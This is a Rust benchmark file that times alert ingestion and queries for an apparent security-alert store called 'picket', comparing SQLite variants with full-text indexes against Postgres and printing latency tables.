/// 8,192 alerts per transaction (the ingest's `commit_max_alerts`).
fn variant_rate(dir: &std::path::Path, v: &Variant, n: u64) -> anyhow::Result<(f64, f64)> {
    let path = dir.join("variant.db");
    for ext in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(format!("{}{ext}", path.display()));
    }
    let c = rusqlite::Connection::open(&path)?;
    c.execute_batch(VARIANT_BASE)?;
    match v.ddl {
        "-" => {}
        "" => c.execute_batch(&format!("{IDX_ALL} CREATE VIRTUAL TABLE alerts_fts USING fts5 (image, command_line, path, content = '', contentless_delete = 1, tokenize = 'trigram');"))?,
        d if d.starts_with("CREATE VIRTUAL") => c.execute_batch(&format!("{IDX_ALL} {d}"))?,
        d => c.execute_batch(d)?,
    }
    let mut rng = Rng(7);
    let batches = n.div_ceil(BATCH as u64);
    let mut total = Duration::ZERO;
    let mut cpu = 0.0;
    let mut b = 0;
    while b < batches {
        let mut alerts = Vec::new();
        for _ in 0..32 {
            if b < batches {
                alerts.extend(batch(b, &mut rng));
                b += 1;
            }
        }
        let t = Instant::now();
        let cpu0 = process_cpu_secs();
        let tx = c.unchecked_transaction()?;
        {
            let mut s = tx.prepare_cached(
                "INSERT INTO alerts (id, device_id, seq, timestamp_ms, received_ms, level, source, rule_id, \
                 rule_title, techniques, image, command_line, path, event, updated_ms) \
                 VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, ?11, ?12, ?13, ?14, ?5) ON CONFLICT DO NOTHING",
            )?;
            let mut f3 = (v.fts_cols == 3).then(|| tx.prepare_cached("INSERT INTO alerts_fts (rowid, image, command_line, path) VALUES (?1, ?2, ?3, ?4)")).transpose()?;
            let mut f1 = (v.fts_cols == 1)
                .then(|| tx.prepare_cached("INSERT INTO alerts_fts (rowid, t) VALUES (?1, ?2)"))
                .transpose()?;
            let mut k =
                tx.prepare_cached("INSERT OR IGNORE INTO alert_techniques VALUES (?1, ?2, ?3)")?;
            for a in &alerts {
                let tech = serde_json::to_string(&a.techniques)?;
                s.execute(rusqlite::params![
                    a.id,
                    a.device_id,
                    a.seq as i64,
                    a.timestamp_ms,
                    a.received_ms,
                    a.level.as_i16(),
                    i16::from(a.source == AlertSource::Upload),
                    a.rule_id,
                    a.rule_title,
                    tech,
                    a.image,
                    a.command_line,
                    a.path,
                    serde_json::to_string(&a.event)?
                ])?;
                let row = tx.last_insert_rowid();
                if let Some(f) = f3.as_mut() {
                    f.execute(rusqlite::params![row, a.image, a.command_line, a.path])?;
                }
                if let Some(f) = f1.as_mut() {
                    let t = format!(
                        "{}\u{1f}{}\u{1f}{}",
                        a.image.as_deref().unwrap_or(""),
                        a.command_line.as_deref().unwrap_or(""),
                        a.path.as_deref().unwrap_or("")
                    );
                    f.execute(rusqlite::params![row, t])?;
                }
                if v.keys {
                    for t in &a.techniques {
                        k.execute(rusqlite::params![t, a.timestamp_ms, row])?;
                        if let Some((p, _)) = t.split_once('.') {
                            k.execute(rusqlite::params![p, a.timestamp_ms, row])?;
                        }
                    }
                }
            }
        }
        tx.commit()?;
        total += t.elapsed();
        cpu += process_cpu_secs() - cpu0;
    }
    let size = std::fs::metadata(&path).map(|m| m.len()).unwrap_or(0)
        + std::fs::metadata(format!("{}-wal", path.display()))
            .map(|m| m.len())
            .unwrap_or(0);
    drop(c);
    println!("    ({:.0} MiB)", size as f64 / 1048576.0);
    for ext in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(format!("{}{ext}", path.display()));
    }
    let n = (batches * BATCH as u64) as f64;
    Ok((n / total.as_secs_f64(), cpu / n * 1e6))
}

/// User + system CPU of this process, seconds (the machine is shared:
/// CPU per alert is steadier than wall-clock rates).
fn process_cpu_secs() -> f64 {
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_default();
    let after = stat.rsplit_once(')').map_or("", |x| x.1);
    let f: Vec<&str> = after.split_whitespace().collect();
    let ticks = |i: usize| f.get(i).and_then(|v| v.parse::<f64>().ok()).unwrap_or(0.0);
    (ticks(11) + ticks(12)) / 100.0
}

fn print_table(title: &str, n: u64, rows: &[Row]) {
    println!("\n{title}: {n} alerts stored, page size 50");
    println!("| query | p50 ms | p99 ms | rows |");
    println!("|---|---:|---:|---:|");
    for r in rows {
        println!(
            "| {} | {} | {} | {} |",
            r.name,
            ms(r.p50),
            ms(r.p99),
            r.rows
        );
    }
}

fn env_u64(name: &str, default: u64) -> u64 {
    std::env::var(name)
        .ok()
        .and_then(|v| v.replace('_', "").parse().ok())
        .unwrap_or(default)
}

#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
async fn main() -> anyhow::Result<()> {
    // `cargo bench` passes `--bench`; `cargo test --benches` would too:
    // only run when asked to bench.
    if !std::env::args().any(|a| a == "--bench") {
        return Ok(());
    }
    let n = env_u64("PICKET_BENCH_ALERTS", 1_000_000);
    if let Ok(only) = std::env::var("PICKET_BENCH_VARIANTS") {
        let dir = tempfile::tempdir_in("/var/tmp")?;
        let vn = env_u64("PICKET_BENCH_VARIANT_ALERTS", 300_000);
        for round in 0..2 {
            for (i, v) in variants().iter().enumerate() {
                if !only.is_empty() && !only.split(',').any(|x| x == i.to_string()) {
                    continue;
                }
                let (r, us) = variant_rate(dir.path(), v, vn)?;
                println!(
                    "  round {round} variant {i} {}: {r:.0} alerts/s wall, {us:.1} us CPU/alert",
                    v.name
                );
            }
        }
        return Ok(());
    }
    let iters = usize::try_from(env_u64("PICKET_BENCH_QUERIES", 200)).unwrap_or(200);
    let tmp = tempfile::tempdir()?;
    let path = std::env::var_os("PICKET_BENCH_SQLITE_PATH")
        .map_or_else(|| tmp.path().join("bench.db"), std::path::PathBuf::from);

    println!("SQLite at {}", path.display());
    let raw = sqlite_raw_insert(tmp.path(), n.min(200_000))?;
    println!("  baseline: raw insert, no secondary indexes, no FTS: {raw:.0} alerts/s");
    let opening = Instant::now();
    let concrete = SqliteStore::open(&path).context("open sqlite")?;
    println!(
        "  opened in {:.1}s (migrations included)",
        opening.elapsed().as_secs_f64()
    );
    let sqlite: Arc<dyn Store> = Arc::new(concrete.clone());
    let t = Instant::now();
    ensure_filled(&sqlite, n, 1).await?;
    let lag = concrete.search_lag().await?;
    let ts = Instant::now();
    concrete.sync_search_index().await?;
    println!(
        "  search index: {lag} alerts behind at the end of the fill, caught up in {:.1}s \
         ({:.1}s since the fill started)",
        ts.elapsed().as_secs_f64(),
        t.elapsed().as_secs_f64()
    );
    let stats = sqlite.stats().await?;
    println!(
        "  {} alerts, {:.2} GiB on disk",
        stats.alerts,
        stats.bytes.unwrap_or(0) as f64 / (1u64 << 30) as f64
    );
    let mut rows = time_queries(&sqlite, stats.alerts, iters).await?;
    rows.extend(sqlite_baselines(&path)?);
    print_table("SQLite", stats.alerts, &rows);

    if let Ok(url) = std::env::var("PICKET_TEST_POSTGRES_URL") {
        let pn = env_u64("PICKET_BENCH_PG_ALERTS", n);
        let writers = usize::try_from(env_u64("PICKET_BENCH_PG_WRITERS", 2)).unwrap_or(2);
        println!("\nPostgres (schema picket_bench)");
        let opening = Instant::now();
        let pg: Arc<dyn Store> =
            Arc::new(PgStore::connect_with_schema(&url, "picket_bench").await?);
        println!(
            "  connected in {:.1}s (migrations included)",
            opening.elapsed().as_secs_f64()
        );
        ensure_filled(&pg, pn, writers).await?;
        let stats = pg.stats().await?;
        println!(
            "  {} alerts, {:.2} GiB on disk",
            stats.alerts,
            stats.bytes.unwrap_or(0) as f64 / (1u64 << 30) as f64
        );
        let mut rows = time_queries(&pg, stats.alerts, iters).await?;
        rows.extend(pg_baselines(&url).await?);
        print_table("Postgres", stats.alerts, &rows);
    } else {
        println!("\nPICKET_TEST_POSTGRES_URL unset: Postgres skipped");
    }
    Ok(())
}
